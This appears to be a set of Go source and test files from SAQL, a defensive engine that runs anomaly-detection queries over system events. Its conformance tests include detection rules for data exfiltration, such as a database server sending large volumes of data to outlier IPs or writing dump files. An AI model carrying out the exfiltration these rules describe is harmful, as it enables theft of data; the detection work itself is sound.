	alerts := e.sched.Process(ev)
	e.fan.Publish(alerts)
	return alerts
}

// Flush closes all open windows (end of stream) and returns final alerts.
// On a running engine the flush happens at a consistent point of the
// stream — after everything submitted before the call — and the alerts are
// also delivered to subscriptions.
//
// Deprecated: Flush is part of the legacy serial API; Close flushes every
// shard and delivers the final alerts to subscriptions. It remains
// supported on both paths (on a running engine it is a mid-stream
// checkpoint flush).
func (e *Engine) Flush() []*Alert {
	switch engineState(e.state.Load()) {
	case stateRunning:
		if rt := e.rt.Load(); rt != nil {
			alerts, _ := rt.Flush()
			return alerts
		}
		return nil
	case stateClosed:
		return nil
	}
	alerts := e.sched.Flush()
	e.fan.Publish(alerts)
	return alerts
}

// Run consumes events from ch until it closes or ctx is cancelled, then
// flushes. All alerts are delivered through the WithAlertHandler callback
// and subscriptions, and also returned.
//
// Deprecated: Run is the legacy serial loop; prefer Start + Submit +
// Subscribe. It only operates on a never-started engine and returns
// ErrAlreadyRunning / ErrClosed otherwise.
func (e *Engine) Run(ctx context.Context, ch <-chan *Event) ([]*Alert, error) {
	switch engineState(e.state.Load()) {
	case stateRunning:
		return nil, ErrAlreadyRunning
	case stateClosed:
		return nil, ErrClosed
	}
	var all []*Alert
	for {
		select {
		case <-ctx.Done():
			all = append(all, e.Flush()...)
			return all, ctx.Err()
		case ev, ok := <-ch:
			if !ok {
				all = append(all, e.Flush()...)
				return all, nil
			}
			all = append(all, e.Process(ev)...)
		}
	}
}

// ---------------------------------------------------------------------------
// Introspection
// ---------------------------------------------------------------------------

// Errors returns recent runtime query errors (oldest first).
func (e *Engine) Errors() []*QueryError { return e.reporter.Recent() }

// ErrorCount returns the total number of runtime query errors. Under the
// sharded runtime a group-key evaluation error surfaces once per shard
// replica that observed it.
func (e *Engine) ErrorCount() int64 { return e.reporter.Total() }

// QueryStats returns the per-query runtime counters. On a running engine
// the counters are aggregated across the query's shard replicas at a
// consistent point of the stream.
func (e *Engine) QueryStats(name string) (QueryStats, bool) {
	if fin := e.final.Load(); fin != nil {
		qs, ok := fin.queries[name]
		return qs, ok
	}
	if rt := e.rt.Load(); rt != nil {
		return rt.QueryStats(name)
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, ok := e.reg[name]
	if !ok {
		return QueryStats{}, false
	}
	qs := rec.q.Stats()
	qs.StateBytes = rec.q.StateBytes()
	return qs, true
}

// Groups reports the scheduler's master–dependent grouping (shard 0's view
// on a running engine; each shard groups its replicas independently).
func (e *Engine) Groups() map[string][]string {
	if rt := e.rt.Load(); rt != nil {
		return rt.Groups()
	}
	return e.sched.Groups()
}

// Shards reports how many shard workers a running engine uses (0 before
// Start).
func (e *Engine) Shards() int {
	if rt := e.rt.Load(); rt != nil {
		return rt.Shards()
	}
	return 0
}

// Stats returns engine-level counters. Under the sharded runtime the
// copy/evaluation counters come from the router's shared evaluation stage,
// where pattern hits are computed exactly once per event; they therefore
// reflect total matching work performed, independent of the shard count.
func (e *Engine) Stats() Stats {
	e.mu.Lock()
	nQueries := len(e.reg)
	e.mu.Unlock()
	var out Stats
	if fin := e.final.Load(); fin != nil {
		out = fin.stats
		out.Queries = nQueries
	} else if rt := e.rt.Load(); rt != nil {
		ss := rt.SchedStats()
		out = Stats{
			Events:            rt.Events(),
			Alerts:            ss.Alerts,
			Queries:           nQueries,
			QueryGroups:       rt.GroupCount(),
			StreamCopies:      ss.StreamCopies,
			NaiveCopies:       ss.NaiveCopies,
			SharingRatio:      ss.SharingRatio(),
			PatternEvals:      ss.PatternEvals,
			NaivePatternEvals: ss.NaivePatternEvals,
			Dropped:           rt.Dropped(),
		}
	} else {
		s := e.sched.Stats()
		out = Stats{
			Events:            s.Events,
			Alerts:            s.Alerts,
			Queries:           nQueries,
			QueryGroups:       e.sched.GroupCount(),
			StreamCopies:      s.StreamCopies,
			NaiveCopies:       s.NaiveCopies,
			SharingRatio:      s.SharingRatio(),
			PatternEvals:      s.PatternEvals,
			NaivePatternEvals: s.NaivePatternEvals,
		}
	}
	// Symbol and source counters are engine-scoped and live even after
	// Close: the fallbacks sink is this engine's own, and the symbol
	// counters aggregate the intern tables of exactly the sources that fed
	// this engine (live attachments plus folded totals of detached ones).
	out.SymbolFallbacks = e.fallbacks.Load()
	e.srcMu.Lock()
	out.Sources = len(e.ingests)
	agg := e.srcTotals
	for _, src := range e.ingests {
		agg.Add(src.Stats())
	}
	e.srcMu.Unlock()
	out.SourceLines = agg.Lines
	out.SourceEvents = agg.Events
	out.DecodeErrors = agg.DecodeErrors
	out.SourceDropped = agg.Dropped
	out.SymbolHits = agg.SymbolHits
	out.SymbolMisses = agg.SymbolMisses
	out.SymbolEntries = int(agg.SymbolEntries)
	return out
}

// finalStats is the immutable post-Close snapshot of runtime-derived
// counters. Source/symbol/tenant counters are excluded: they live on the
// Engine itself and stay readable after Close.
type finalStats struct {
	stats   Stats
	queries map[string]QueryStats
}

// captureFinal snapshots engine and per-query runtime counters after the
// sharded runtime has drained, so Stats/QueryStats keep reporting the final
// values once the workers are gone. First closer wins; concurrent Close
// calls race benignly on identical data.
func (e *Engine) captureFinal(rt *runtime.Runtime) {
	if e.final.Load() != nil {
		return
	}
	ss := rt.SchedStats()
	fin := &finalStats{
		stats: Stats{
			Events:            rt.Events(),
			Alerts:            ss.Alerts,
			QueryGroups:       rt.GroupCount(),
			StreamCopies:      ss.StreamCopies,
			NaiveCopies:       ss.NaiveCopies,
			SharingRatio:      ss.SharingRatio(),
			PatternEvals:      ss.PatternEvals,
			NaivePatternEvals: ss.NaivePatternEvals,
			Dropped:           rt.Dropped(),
		},
		queries: map[string]QueryStats{},
	}
	e.mu.Lock()
	names := make([]string, 0, len(e.reg))
	for name := range e.reg {
		names = append(names, name)
	}
	e.mu.Unlock()
	for _, name := range names {
		if qs, ok := rt.QueryStats(name); ok {
			fin.queries[name] = qs
		}
	}
	e.final.CompareAndSwap(nil, fin)
}

// attachSource registers a log source with the engine so its counters
// aggregate into Stats. Called by Source.Run.
func (e *Engine) attachSource(src *source.Source) {
	e.srcMu.Lock()
	defer e.srcMu.Unlock()
	for _, s := range e.ingests {
		if s == src {
			return
		}
	}
	e.ingests = append(e.ingests, src)
}

// detachSource removes a finished source, folding its final counters into
// the engine's cumulative totals so Stats keeps counting its lines/events
// while Stats.Sources drops back to the live attachment count. Called by
// Source.Run on the way out.
func (e *Engine) detachSource(src *source.Source) {
	e.srcMu.Lock()
	defer e.srcMu.Unlock()
	for i, s := range e.ingests {
		if s == src {
			e.ingests = append(e.ingests[:i], e.ingests[i+1:]...)
			e.srcTotals.Add(src.Stats())
			return
		}
	}
}

// CompiledQuery is a compiled, executable SAQL query for direct use with a
// BaselineEngine or standalone Process calls. Engine users never need it.
type CompiledQuery = engine.Query

// CompileQuery parses, checks, and compiles a SAQL query.
func CompileQuery(name, src string) (*CompiledQuery, error) {
	return engine.Compile(name, src, engine.CompileOptions{})
}

// Validate parses and semantically checks a SAQL query without registering
// it, returning the first error found (nil if the query is well-formed).
func Validate(src string) error {
	q, err := parser.Parse(src)
	if err != nil {
		return err
	}
	_, err = sema.Check(q)
	return err
}

// ---------------------------------------------------------------------------
// Event model re-exports
// ---------------------------------------------------------------------------

// Event is a system monitoring event: subject performed Op on object.
type Event = event.Event

// Entity is a system entity (process, file, or network connection).
type Entity = event.Entity

// Op is a system-call-level operation.
type Op = event.Op

// Operations.
const (
	OpRead    = event.OpRead
	OpWrite   = event.OpWrite
	OpExecute = event.OpExecute
	OpStart   = event.OpStart
	OpEnd     = event.OpEnd
	OpDelete  = event.OpDelete
	OpRename  = event.OpRename
	OpConnect = event.OpConnect
	OpAccept  = event.OpAccept
)

// Process constructs a process entity.
func Process(exe string, pid int32) Entity { return event.Process(exe, pid) }

// File constructs a file entity.
func File(path string) Entity { return event.File(path) }

// NetConn constructs a network connection entity.
func NetConn(srcIP string, srcPort int32, dstIP string, dstPort int32) Entity {
	return event.NetConn(srcIP, srcPort, dstIP, dstPort)
}
