package saql

import (
	"context"
	"fmt"
	"sync"

	"saql/internal/engine"
	"saql/internal/event"
	"saql/internal/parser"
	"saql/internal/scheduler"
	"saql/internal/sema"
)

// Alert is a detection raised by a query (re-exported engine type).
type Alert = engine.Alert

// NamedValue is one returned attribute of an alert.
type NamedValue = engine.NamedValue

// ModelKind classifies queries by anomaly model family.
type ModelKind = engine.ModelKind

// Anomaly model kinds.
const (
	KindRule       = engine.KindRule
	KindTimeSeries = engine.KindTimeSeries
	KindInvariant  = engine.KindInvariant
	KindOutlier    = engine.KindOutlier
	KindStateful   = engine.KindStateful
)

// QueryError is a runtime error attributed to a query.
type QueryError = engine.QueryError

// Stats summarises engine activity.
type Stats struct {
	Events       int64
	Alerts       int64
	Queries      int
	QueryGroups  int
	StreamCopies int64
	NaiveCopies  int64
	SharingRatio float64
}

// Option configures an Engine.
type Option func(*config)

type config struct {
	sharing  bool
	compile  engine.CompileOptions
	onAlert  func(*Alert)
	onError  func(*QueryError)
	errDepth int
}

// WithSharing toggles the master–dependent-query scheme (default on).
// Disabling it executes every query independently, the configuration used
// as the SAQL-side ablation in the concurrency experiments.
func WithSharing(on bool) Option { return func(c *config) { c.sharing = on } }

// WithCompileOptions overrides per-query resource bounds.
func WithCompileOptions(opts engine.CompileOptions) Option {
	return func(c *config) { c.compile = opts }
}

// WithAlertHandler installs a callback invoked for every alert, in addition
// to alerts being returned from Process.
func WithAlertHandler(fn func(*Alert)) Option { return func(c *config) { c.onAlert = fn } }

// WithErrorHandler installs a callback invoked for every runtime query error.
func WithErrorHandler(fn func(*QueryError)) Option { return func(c *config) { c.onError = fn } }

// Engine is the SAQL anomaly query engine: it manages concurrent queries
// over the system event stream and reports alerts. Engine is safe for
// concurrent use; event processing is serialised internally.
type Engine struct {
	cfg      config
	reporter *engine.ErrorReporter
	sched    *scheduler.Scheduler

	mu      sync.Mutex
	queries map[string]*engine.Query
}

// New creates an engine.
func New(opts ...Option) *Engine {
	cfg := config{sharing: true, errDepth: 128}
	for _, o := range opts {
		o(&cfg)
	}
	rep := engine.NewErrorReporter(cfg.errDepth, cfg.onError)
	return &Engine{
		cfg:      cfg,
		reporter: rep,
		sched:    scheduler.New(rep, cfg.sharing),
		queries:  map[string]*engine.Query{},
	}
}

// AddQuery parses, checks, compiles, and registers a SAQL query under name.
func (e *Engine) AddQuery(name, src string) error {
	q, err := engine.Compile(name, src, e.cfg.compile)
	if err != nil {
		return err
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if _, dup := e.queries[name]; dup {
		return fmt.Errorf("saql: duplicate query name %q", name)
	}
	if err := e.sched.Add(q); err != nil {
		return err
	}
	e.queries[name] = q
	return nil
}

// RemoveQuery unregisters a query.
func (e *Engine) RemoveQuery(name string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	if _, ok := e.queries[name]; !ok {
		return false
	}
	delete(e.queries, name)
	return e.sched.Remove(name)
}

// QueryKind reports the anomaly model family of a registered query.
func (e *Engine) QueryKind(name string) (ModelKind, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	q, ok := e.queries[name]
	if !ok {
		return 0, false
	}
	return q.Kind, true
}

// Process feeds one event through all queries and returns the alerts raised.
func (e *Engine) Process(ev *Event) []*Alert {
	alerts := e.sched.Process(ev)
	e.dispatch(alerts)
	return alerts
}

// Flush closes all open windows (end of stream) and returns final alerts.
func (e *Engine) Flush() []*Alert {
	alerts := e.sched.Flush()
	e.dispatch(alerts)
	return alerts
}

func (e *Engine) dispatch(alerts []*Alert) {
	if e.cfg.onAlert == nil {
		return
	}
	for _, a := range alerts {
		e.cfg.onAlert(a)
	}
}

// Run consumes events from ch until it closes or ctx is cancelled, then
// flushes. All alerts are delivered through the WithAlertHandler callback
// and also returned.
func (e *Engine) Run(ctx context.Context, ch <-chan *Event) ([]*Alert, error) {
	var all []*Alert
	for {
		select {
		case <-ctx.Done():
			all = append(all, e.Flush()...)
			return all, ctx.Err()
		case ev, ok := <-ch:
			if !ok {
				all = append(all, e.Flush()...)
				return all, nil
			}
			all = append(all, e.Process(ev)...)
		}
	}
}

// Errors returns recent runtime query errors (oldest first).
func (e *Engine) Errors() []*QueryError { return e.reporter.Recent() }

// ErrorCount returns the total number of runtime query errors.
func (e *Engine) ErrorCount() int64 { return e.reporter.Total() }

// QueryStats returns the per-query runtime counters.
func (e *Engine) QueryStats(name string) (engine.QueryStats, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	q, ok := e.queries[name]
	if !ok {
		return engine.QueryStats{}, false
	}
	return q.Stats(), true
}

// Groups reports the scheduler's master–dependent grouping.
func (e *Engine) Groups() map[string][]string { return e.sched.Groups() }

// Stats returns engine-level counters.
func (e *Engine) Stats() Stats {
	s := e.sched.Stats()
	return Stats{
		Events:       s.Events,
		Alerts:       s.Alerts,
		Queries:      e.sched.QueryCount(),
		QueryGroups:  e.sched.GroupCount(),
		StreamCopies: s.StreamCopies,
		NaiveCopies:  s.NaiveCopies,
		SharingRatio: s.SharingRatio(),
	}
}

// CompiledQuery is a compiled, executable SAQL query for direct use with a
// BaselineEngine or standalone Process calls. Engine users never need it.
type CompiledQuery = engine.Query

// CompileQuery parses, checks, and compiles a SAQL query.
func CompileQuery(name, src string) (*CompiledQuery, error) {
	return engine.Compile(name, src, engine.CompileOptions{})
}

// Validate parses and semantically checks a SAQL query without registering
// it, returning the first error found (nil if the query is well-formed).
func Validate(src string) error {
	q, err := parser.Parse(src)
	if err != nil {
		return err
	}
	_, err = sema.Check(q)
	return err
}

// ---------------------------------------------------------------------------
// Event model re-exports
// ---------------------------------------------------------------------------

// Event is a system monitoring event: subject performed Op on object.
type Event = event.Event

// Entity is a system entity (process, file, or network connection).
type Entity = event.Entity

// Op is a system-call-level operation.
type Op = event.Op

// Operations.
const (
	OpRead    = event.OpRead
	OpWrite   = event.OpWrite
	OpExecute = event.OpExecute
	OpStart   = event.OpStart
	OpEnd     = event.OpEnd
	OpDelete  = event.OpDelete
	OpRename  = event.OpRename
	OpConnect = event.OpConnect
	OpAccept  = event.OpAccept
)

// Process constructs a process entity.
func Process(exe string, pid int32) Entity { return event.Process(exe, pid) }

// File constructs a file entity.
func File(path string) Entity { return event.File(path) }

// NetConn constructs a network connection entity.
func NetConn(srcIP string, srcPort int32, dstIP string, dstPort int32) Entity {
	return event.NetConn(srcIP, srcPort, dstIP, dstPort)
}
