package saql

// Goroutine-hygiene tests: the engine's lifecycle contract is that Close
// joins everything Start spawned — shard workers, the router, the ingest
// queue, subscription fan-out, log sources. internal/leakcheck enforces the
// contract at teardown; the worker/coordinator halves of the same contract
// live in internal/dist's and cmd/saql-worker's tests.

import (
	"context"
	"testing"

	"saql/internal/leakcheck"
)

// TestEngineStartCloseNoLeak pins the plain lifecycle: Start then Close,
// with events and a subscription in between, leaves no goroutines behind.
func TestEngineStartCloseNoLeak(t *testing.T) {
	leakcheck.Check(t)
	eng := New(WithShards(4), WithIngestQueue(16))
	if err := eng.AddQuery("big-write", "proc p write ip i as e\nalert e.amount > 1000000\nreturn p, e.amount"); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	sub := eng.Subscribe(16, Block)
	go func() {
		for range sub.C {
		}
	}()
	if err := eng.SubmitBatch(concurrencyWorkload(12, 6)); err != nil {
		t.Fatal(err)
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestEngineRestartCycleNoLeak pins the repeated-lifecycle case the
// distributed worker depends on: reconfigure is Close-then-Restore in a
// loop, so every cycle must return the process to its baseline.
func TestEngineRestartCycleNoLeak(t *testing.T) {
	leakcheck.Check(t)
	for i := 0; i < 3; i++ {
		eng := New(WithShards(2))
		if err := eng.Start(context.Background()); err != nil {
			t.Fatal(err)
		}
		if err := eng.SubmitBatch(concurrencyWorkload(4, 4)); err != nil {
			t.Fatal(err)
		}
		if err := eng.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

// TestSourceRunNoLeak pins the ingestion-source half: a log source run to
// EOF through a running engine unwinds its reader and batcher goroutines
// once the engine closes.
func TestSourceRunNoLeak(t *testing.T) {
	leakcheck.Check(t)
	eng := New(WithShards(2))
	if err := eng.AddQuery("any", `proc p read file f return p, f`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"), WithSourceAgent("db-1"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != nil {
		t.Fatal(err)
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
}
