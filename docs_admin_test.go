package saql_test

// Documentation conformance for docs/admin.md. Lives in the external test
// package because internal/admin imports saql, so the in-package docs test
// cannot import it without a cycle.

import (
	"os"
	"strings"
	"testing"

	"saql"
	"saql/internal/admin"
	"saql/internal/parser"
)

// adminDocBlocks extracts the ```<lang> fenced code blocks from
// docs/admin.md.
func adminDocBlocks(t *testing.T, lang string) []string {
	t.Helper()
	data, err := os.ReadFile("docs/admin.md")
	if err != nil {
		t.Fatal(err)
	}
	var blocks []string
	var cur []string
	in := false
	for _, line := range strings.Split(string(data), "\n") {
		switch {
		case !in && strings.TrimSpace(line) == "```"+lang:
			in = true
			cur = cur[:0]
		case in && strings.TrimSpace(line) == "```":
			in = false
			blocks = append(blocks, strings.Join(cur, "\n"))
		case in:
			cur = append(cur, line)
		}
	}
	if in {
		t.Fatalf("docs/admin.md: unterminated ```%s block", lang)
	}
	return blocks
}

// TestAdminDocSnippetsValidate pins docs/admin.md: every line of every
// ```saql-admin block must parse through the admin DSL parser, and the
// tenant queryset example must parse through ParseQuerySet — so the admin
// reference cannot drift from the implementation.
func TestAdminDocSnippetsValidate(t *testing.T) {
	calls := 0
	for i, block := range adminDocBlocks(t, "saql-admin") {
		for _, line := range strings.Split(block, "\n") {
			line = strings.TrimSpace(line)
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			calls++
			if _, err := admin.Parse(line); err != nil {
				t.Errorf("docs/admin.md saql-admin block %d: %q does not parse: %v", i+1, line, err)
			}
		}
	}
	if calls < 8 {
		t.Errorf("docs/admin.md demonstrates %d admin DSL calls; the reference should cover the verbs (>= 8)", calls)
	}

	sets := 0
	for i, src := range adminDocBlocks(t, "saql") {
		if !parser.LooksLikeQuerySet(src) {
			t.Errorf("docs/admin.md saql block %d is not a queryset document", i+1)
			continue
		}
		sets++
		set, err := saql.ParseQuerySet(src)
		if err != nil {
			t.Errorf("docs/admin.md saql block %d is not a valid queryset: %v\n%s", i+1, err, src)
			continue
		}
		if len(set.Quotas()) == 0 {
			t.Errorf("docs/admin.md saql block %d declares no tenant quotas", i+1)
		}
	}
	if sets == 0 {
		t.Error("docs/admin.md demonstrates no tenant queryset document")
	}
}
