package saql

// Documentation conformance: every ```saql fenced block in the docs must be
// a complete query that validates and compiles, so the language reference
// cannot drift from the implementation.

import (
	"os"
	"strings"
	"testing"

	"saql/internal/parser"
)

// fencedBlocks extracts the ```<lang> fenced code blocks from markdown.
func fencedBlocks(t *testing.T, path, lang string) []string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var blocks []string
	var cur []string
	in := false
	for _, line := range strings.Split(string(data), "\n") {
		switch {
		case !in && strings.TrimSpace(line) == "```"+lang:
			in = true
			cur = cur[:0]
		case in && strings.TrimSpace(line) == "```":
			in = false
			blocks = append(blocks, strings.Join(cur, "\n"))
		case in:
			cur = append(cur, line)
		}
	}
	if in {
		t.Fatalf("%s: unterminated ```%s block", path, lang)
	}
	return blocks
}

// saqlBlocks extracts the ```saql fenced code blocks from markdown.
func saqlBlocks(t *testing.T, path string) []string {
	t.Helper()
	return fencedBlocks(t, path, "saql")
}

func TestLanguageDocSnippetsValidate(t *testing.T) {
	blocks := saqlBlocks(t, "docs/language.md")
	if len(blocks) < 15 {
		t.Fatalf("docs/language.md has %d saql blocks; the reference should cover the language (>= 15)", len(blocks))
	}
	for i, src := range blocks {
		if err := Validate(src); err != nil {
			t.Errorf("docs/language.md block %d does not validate: %v\n%s", i+1, err, src)
			continue
		}
		if _, err := CompileQuery("doc-snippet", src); err != nil {
			t.Errorf("docs/language.md block %d does not compile: %v\n%s", i+1, err, src)
		}
	}
}

// TestQueriesDocSnippetsValidate pins docs/queries.md: plain ```saql
// blocks must validate and compile; queryset documents must parse through
// ParseQuerySet (params substituted, every query checked).
func TestQueriesDocSnippetsValidate(t *testing.T) {
	blocks := saqlBlocks(t, "docs/queries.md")
	if len(blocks) < 1 {
		t.Fatal("docs/queries.md has no saql blocks; the queryset grammar must be demonstrated")
	}
	sets := 0
	for i, src := range blocks {
		if parser.LooksLikeQuerySet(src) {
			sets++
			if _, err := ParseQuerySet(src); err != nil {
				t.Errorf("docs/queries.md block %d is not a valid queryset: %v\n%s", i+1, err, src)
			}
			continue
		}
		if err := Validate(src); err != nil {
			t.Errorf("docs/queries.md block %d does not validate: %v\n%s", i+1, err, src)
			continue
		}
		if _, err := CompileQuery("doc-snippet", src); err != nil {
			t.Errorf("docs/queries.md block %d does not compile: %v\n%s", i+1, err, src)
		}
	}
	if sets == 0 {
		t.Error("docs/queries.md demonstrates no queryset document")
	}
}

func TestDocsExist(t *testing.T) {
	for _, path := range []string{"README.md", "docs/language.md", "docs/architecture.md", "docs/queries.md", "docs/admin.md"} {
		st, err := os.Stat(path)
		if err != nil {
			t.Fatalf("%s missing: %v", path, err)
		}
		if st.Size() < 1024 {
			t.Errorf("%s is suspiciously small (%d bytes)", path, st.Size())
		}
	}
}
