module saql

go 1.24
