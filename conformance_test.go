package saql

// Language conformance corpus: a battery of SAQL queries covering every
// construct the grammar supports, each of which must validate, compile, and
// classify to the expected anomaly model. This is the regression suite that
// pins the language surface.

import (
	"context"
	"fmt"
	"math/rand"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

type conformanceCase struct {
	name string
	src  string
	kind ModelKind
}

var conformanceCorpus = []conformanceCase{
	// --- rule-based ----------------------------------------------------
	{"single-pattern", `proc p read file f return p, f`, KindRule},
	{"anonymous-entities", `proc["%cmd.exe"] start proc as e return e.agentid`, KindRule},
	{"op-alternation", `proc p read || write || execute file f return p`, KindRule},
	{"process-events", `proc p start proc c as e return p, c`, KindRule},
	{"network-events", `proc p connect ip i[dstip="10.0.0.1", dport=443] return p, i`, KindRule},
	{"global-constraint", `agentid = "db-1"
proc p delete file f["%log%"] return p, f`, KindRule},
	{"two-globals", `agentid != "ws-1"
host != "ws-2"
proc p rename file f return p`, KindRule},
	{"numeric-constraints", `proc p[pid > 1000, pid <= 30000] read file f return p.pid`, KindRule},
	{"temporal-pair", `proc p write file f as e1
proc q2 read file f as e2
with e1 -> e2
return p, q2, f`, KindRule},
	{"temporal-full-chain", `proc a start proc b as e1
proc b write file f as e2
proc c read file f as e3
proc c write ip i as e4
with e1 -> e2 -> e3 -> e4
return a, b, c, f, i`, KindRule},
	{"unordered-conjunction", `proc p write file f1["%a%"] as e1
proc p write file f2["%b%"] as e2
return p, f1, f2`, KindRule},
	{"explicit-alert-on-rule", `proc p write ip i as e
alert e.amount > 1000000 && i.dstip != "10.0.0.1"
return p, i, e.amount`, KindRule},
	{"rule-with-horizon-window", `proc p start proc c as e #time(5 min) return p, c`, KindRule},
	{"accept-op", `proc p accept ip i return p, i.srcip, i.sport`, KindRule},
	{"return-aliases", `proc p read file f return p as process, f.basename as file`, KindRule},
	{"distinct-return", `proc p execute file f return distinct p, f`, KindRule},
	{"event-attrs", `proc p write ip i as e return e.amount, e.agentid, e.optype, e.id`, KindRule},

	// --- stateful (aggregation only) ------------------------------------
	{"count-stateful", `proc p start proc c as e #time(1 min)
state ss { n := count(e) } group by p
alert ss.n > 10
return p, ss.n`, KindStateful},
	{"all-aggregators", `proc p write ip i as e #time(1 min)
state ss {
  a := avg(e.amount)
  s := sum(e.amount)
  n := count(e)
  lo := min(e.amount)
  hi := max(e.amount)
  sd := stddev(e.amount)
  vr := variance(e.amount)
  md := median(e.amount)
  p9 := percentile(e.amount, 99)
  st := set(i.dstip)
  dc := distinct(i.dstip)
  fs := first(i.dstip)
  ls := last(i.dstip)
} group by p
alert ss.hi > 1000000 && ss.n > 5
return p, ss.a, ss.dc`, KindStateful},
	{"group-by-multiple", `proc p write ip i as e #time(30 s)
state ss { amt := sum(e.amount) } group by p, i.dstip
alert ss.amt > 1000
return p, i.dstip, ss.amt`, KindStateful},
	{"no-group-by", `proc p write ip i as e #time(30 s)
state ss { total := sum(e.amount) }
alert ss.total > 100000000
return ss.total`, KindStateful},
	{"hopping-window", `proc p write ip i as e #time(10 min, 1 min)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 1000000
return p, ss.amt`, KindStateful},

	// --- time-series -----------------------------------------------------
	{"paper-query-2", `proc p write ip i as evt #time(10 min)
state[3] ss { avg_amount := avg(evt.amount) } group by p
alert (ss[0].avg_amount > (ss[0].avg_amount + ss[1].avg_amount + ss[2].avg_amount) / 3) && (ss[0].avg_amount > 10000)
return p, ss[0].avg_amount, ss[1].avg_amount, ss[2].avg_amount`, KindTimeSeries},
	{"deep-history", `proc p write ip i as e #time(1 min)
state[8] ss { amt := sum(e.amount) } group by p
alert ss[0].amt > 2 * ss[7].amt && ss[7].amt > 0
return p, ss[0].amt, ss[7].amt`, KindTimeSeries},
	{"history-arith", `proc p read file f as e #time(30 s)
state[2] ss { n := count(e) } group by p
alert abs(ss[0].n - ss[1].n) > 100
return p, ss[0].n`, KindTimeSeries},

	// --- invariant ---------------------------------------------------------
	{"paper-query-3", `proc p1["%apache.exe"] start proc p2 as evt #time(10 s)
state ss { set_proc := set(p2.exe_name) } group by p1
invariant[10][offline] {
  a := empty_set
  a = a union ss.set_proc
}
alert |ss.set_proc diff a| > 0
return p1, ss.set_proc`, KindInvariant},
	{"online-invariant", `proc p write file f as e #time(1 min)
state ss { files := set(f.name) } group by p
invariant[20][online] {
  seen := empty_set
  seen = seen union ss.files
}
alert |ss.files diff seen| > 3
return p, ss.files`, KindInvariant},
	{"invariant-intersect", `proc p connect ip i as e #time(1 min)
state ss { dsts := set(i.dstip) } group by p
invariant[5] {
  known := empty_set
  known = known union ss.dsts
}
alert |ss.dsts diff known| > 0 && |ss.dsts intersect known| = 0
return p, ss.dsts`, KindInvariant},

	// --- outlier -------------------------------------------------------------
	{"paper-query-4", `agentid = "db-1"
proc p["%sqlservr.exe"] read || write ip i as evt #time(10 min)
state ss { amt := sum(evt.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="ed", method="DBSCAN(100000, 5)")
alert cluster.outlier && ss.amt > 1000000
return i.dstip, ss.amt`, KindOutlier},
	{"kmeans-outlier", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="md", method="KMEANS(4)")
alert cluster.outlier
return i.dstip, ss.amt, cluster.cluster_id`, KindOutlier},
	{"cluster-fields", `proc p write ip i as e #time(1 min)
state ss { n := count(e) } group by i.dstip
cluster(points=all(ss.n), distance="cd", method="DBSCAN(5, 2)")
alert cluster.outlier || cluster.size < 2
return i.dstip, cluster.cluster_id, cluster.size`, KindOutlier},
	{"cosine-distance", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="cos", method="DBSCAN(0.5, 2)")
alert cluster.outlier
return i.dstip`, KindOutlier},

	// --- expression surface ---------------------------------------------------
	{"scalar-functions", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert sqrt(ss.amt) > 1000 && floor(ss.amt) >= ceil(ss.amt) - 1 && pow(2, 10) = 1024
return p, abs(ss.amt), len(p.exe_name)`, KindStateful},
	{"in-operator", `proc p start proc c as e #time(1 min)
state ss { kids := set(c.exe_name) } group by p
alert "cmd.exe" in ss.kids
return p, ss.kids`, KindStateful},
	{"contains-function", `proc p write file f as e #time(1 min)
state ss { files := set(f.name) } group by p
alert contains(ss.files, "backup1.dmp")
return p`, KindStateful},
	{"wildcard-alert", `proc p write file f as e
alert f.name == "%.dmp" && p.exe_name != "%sql%"
return p, f`, KindRule},
	{"not-operator", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert !(ss.amt < 1000000)
return p`, KindStateful},
	{"multiple-alerts", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 100000000
alert ss.amt > 10000000 && p.exe_name == "%sql%"
return p, ss.amt`, KindStateful},
	{"comments-everywhere", `// leading comment
agentid = "db-1" // SQL database server (obfuscated)
proc p write ip i as evt #time(10 min) // pattern
state ss { amt := sum(evt.amount) } group by p // state
alert ss.amt > 10 // alert
return p // done`, KindStateful},
}

func TestConformanceCorpus(t *testing.T) {
	for _, c := range conformanceCorpus {
		t.Run(c.name, func(t *testing.T) {
			if err := Validate(c.src); err != nil {
				t.Fatalf("validate: %v", err)
			}
			q, err := CompileQuery(c.name, c.src)
			if err != nil {
				t.Fatalf("compile: %v", err)
			}
			if q.Kind != c.kind {
				t.Errorf("kind = %v, want %v", q.Kind, c.kind)
			}
		})
	}
}

// TestHotSwapMatchesRestart is the lifecycle conformance check: a sharded
// engine whose queries are Registered, Paused/Resumed, and hot-swapped
// (Updated) mid-stream must emit exactly the same alerts as a fresh serial
// engine running the final query set over the same events — pause windows
// chosen over spans the paused query would not have matched, and updates
// performed with window-state carry before any window closes, so the
// equivalence is exact. It then verifies that Apply of the (now unchanged)
// final queryset reports zero changes and reuses the existing handles
// pointer-identically.
func TestHotSwapMatchesRestart(t *testing.T) {
	const procs, perProc = 120, 40
	events := concurrencyWorkload(procs, perProc)
